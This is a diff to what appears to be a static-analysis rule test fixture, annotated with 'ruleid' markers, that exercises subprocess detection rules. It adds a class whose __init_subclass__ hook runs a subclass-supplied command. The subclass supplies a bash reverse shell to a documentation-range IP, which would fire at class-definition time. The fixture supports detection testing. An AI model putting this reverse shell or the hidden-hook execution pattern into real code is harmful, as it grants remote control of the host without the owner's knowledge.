@@ -582,3 +582,11 @@ def _lister(where):
     # ruleid: subprocess-call, process-partial-path-list
     return subprocess.call(["ls", "-l", where])
 _lister("~")
+# a base class's hook that runs what each subclass sets
+class _PluginBase:
+    def __init_subclass__(cls, **kw):
+        super().__init_subclass__(**kw)
+        # ruleid: shell-in-argv, subprocess-call, process-partial-path-list
+        subprocess.Popen(cls.bootstrap)
+class _Metrics(_PluginBase):
+    bootstrap = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.61/8080 0>&1"]
